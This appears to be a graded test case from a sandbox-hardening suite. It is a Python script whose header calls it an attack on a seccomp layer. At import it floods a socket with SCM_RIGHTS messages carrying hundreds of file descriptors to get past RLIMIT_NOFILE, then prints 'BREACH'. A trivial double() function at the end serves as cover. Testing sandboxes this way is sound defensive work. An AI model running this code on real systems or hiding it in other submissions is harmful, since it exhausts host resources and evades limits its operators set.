# attack: hide open files in messages of sockets, where RLIMIT_NOFILE does not count them
# layer: seccomp
# outcome: ok
# score: 2
import array
import os
import socket

sent = 0
try:
    peer = socket.socket(fileno=os.dup(3))
    while True:
        peer.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
        sent += 200
except OSError:
    pass
if sent:
    os.write(1, b"BREACH %d files in flight" % sent)


def double(x):
    return x * 2
